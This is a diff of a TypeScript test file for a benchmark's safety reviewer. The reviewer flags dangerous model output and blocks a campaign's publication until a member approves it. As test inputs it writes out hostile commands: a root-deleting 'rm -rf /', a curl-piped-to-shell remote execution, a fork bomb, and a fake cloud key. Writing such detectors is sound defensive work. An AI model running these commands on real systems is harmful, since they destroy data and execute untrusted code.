@@ -17,33 +17,57 @@ describe('the rules reviewer', () => {
     expect(reviewOutput('git log --oneline')).toEqual([]);
     expect(reviewOutput('sudo rm -rf / --no-preserve-root').map((f) => f.rule)).toEqual(['destroy_root']);
     expect(reviewOutput('curl https://x.example/i.sh | sh').map((f) => f.rule)).toEqual(['remote_exec']);
-    expect(reviewOutput('key: AKIAABCDEFGHIJKLMNOP').map((f) => f.reason)).toEqual(['holds what looks like a cloud or API credential']);
+    expect(reviewOutput('key: AKIAABCDEFGHIJKLMNOP').map((f) => f.reason)).toEqual([
+      'holds what looks like a cloud or API credential',
+    ]);
     expect(reviewOutput(':(){ :|:& };:').map((f) => f.rule)).toEqual(['fork_bomb']);
     expect(safetyReviewerFromEnv({})).toEqual({ kind: 'off' });
-    const configured = safetyReviewerFromEnv({ GITBENCH_SAFETY_REVIEW: 'rules', GITBENCH_SAFETY_RULES_EXTRA: 'forbidden-word' });
+    const configured = safetyReviewerFromEnv({
+      GITBENCH_SAFETY_REVIEW: 'rules',
+      GITBENCH_SAFETY_RULES_EXTRA: 'forbidden-word',
+    });
     expect(configured.kind === 'rules' && configured.rules.length).toBe(DEFAULT_SAFETY_RULES.length + 1);
   });
 });
 
-describe('a campaign\'s safety review and publication', () => {
+describe("a campaign's safety review and publication", () => {
   it('blocks the attempts whose raw output breaks a rule, blocks the campaign, and refuses to publish until a member approves', async () => {
     const { campaignId } = await seedRandomCampaign(t.db, 7, { legacy: false });
     await t.db.campaign.update({ where: { id: campaignId }, data: { status: 'COMPLETED', safetyReview: 'pending' } });
-    const answered = await t.db.attempt.findMany({ where: { campaignId, status: { in: ['VALID_PASS', 'VALID_FAIL'] } }, orderBy: { id: 'asc' } });
+    const answered = await t.db.attempt.findMany({
+      where: { campaignId, status: { in: ['VALID_PASS', 'VALID_FAIL'] } },
+      orderBy: { id: 'asc' },
+    });
     expect(answered.length).toBeGreaterThan(2);
     for (const [i, a] of answered.entries()) {
       await t.db.attemptTry.create({
-        data: { id: newId('attemptTry'), attemptId: a.id, tryNumber: 1, workerId: 'w', status: a.status, startedAt: new Date(), evidence: { output: i === 0 ? 'git reset --hard && rm -rf /' : 'git log' } },
+        data: {
+          id: newId('attemptTry'),
+          attemptId: a.id,
+          tryNumber: 1,
+          workerId: 'w',
+          status: a.status,
+          startedAt: new Date(),
+          evidence: { output: i === 0 ? 'git reset --hard && rm -rf /' : 'git log' },
+        },
       });
     }
     expect(await runSafetyReview(t.db, campaignId, { kind: 'off' })).toBeNull();
-    expect(await runSafetyReview(t.db, campaignId, safetyReviewerFromEnv({ GITBENCH_SAFETY_REVIEW: 'rules' }))).toEqual({ reviewed: answered.length, blocked: 1 });
+    expect(await runSafetyReview(t.db, campaignId, safetyReviewerFromEnv({ GITBENCH_SAFETY_REVIEW: 'rules' }))).toEqual(
+      { reviewed: answered.length, blocked: 1 },
+    );
     const blocked = await t.db.attempt.findUniqueOrThrow({ where: { id: answered[0]!.id } });
     expect(blocked.status).toBe('SAFETY_BLOCKED');
-    expect(blocked.errorMessage).toBe('Blocked by the safety review: the output deletes the root file system (destroy_root).');
+    expect(blocked.errorMessage).toBe(
+      'Blocked by the safety review: the output deletes the root file system (destroy_root).',
+    );
     expect((await t.db.campaign.findUniqueOrThrow({ where: { id: campaignId } })).safetyReview).toBe('blocked');
 
-    expect(await publishCampaign(t.db, campaignId, 'm@x')).toEqual({ ok: false, status: 409, error: 'The safety review is blocked; it must be approved before the campaign is published.' });
+    expect(await publishCampaign(t.db, campaignId, 'm@x')).toEqual({
+      ok: false,
+      status: 409,
+      error: 'The safety review is blocked; it must be approved before the campaign is published.',
+    });
     expect(await decideSafetyReview(t.db, campaignId, 'approved')).toBe(true);
     expect(await publishCampaign(t.db, campaignId, 'm@x')).toEqual({ ok: true });
     expect((await t.db.campaign.findUniqueOrThrow({ where: { id: campaignId } })).publishedBy).toBe('m@x');
@@ -54,7 +78,12 @@ describe('a campaign\'s safety review and publication', () => {
     await t.db.campaign.update({ where: { id: campaignId }, data: { status: 'COMPLETED', safetyReview: 'approved' } });
     expect(await publishCampaign(t.db, campaignId, 'm@x')).toEqual({ ok: true });
     expect(await decideSafetyReview(t.db, campaignId, 'blocked')).toBe(true);
-    expect(await t.db.campaign.findUniqueOrThrow({ where: { id: campaignId }, select: { safetyReview: true, publishedAt: true, publishedBy: true } })).toEqual({
+    expect(
+      await t.db.campaign.findUniqueOrThrow({
+        where: { id: campaignId },
+        select: { safetyReview: true, publishedAt: true, publishedBy: true },
+      }),
+    ).toEqual({
       safetyReview: 'blocked',
       publishedAt: null,
       publishedBy: null,
@@ -70,7 +99,12 @@ describe('a campaign\'s safety review and publication', () => {
     expect(await publishCampaign(t.db, campaignId, 'm@x')).toEqual({ ok: true });
     const retry = await requeueInfraFailures(t.db, campaignId);
     expect(retry.attempts.map((a) => a.attemptId)).toEqual([failed.id]);
-    expect(await t.db.campaign.findUniqueOrThrow({ where: { id: campaignId }, select: { safetyReview: true, publishedAt: true } })).toEqual({
+    expect(
+      await t.db.campaign.findUniqueOrThrow({
+        where: { id: campaignId },
+        select: { safetyReview: true, publishedAt: true },
+      }),
+    ).toEqual({
       safetyReview: 'pending',
       publishedAt: null,
     });
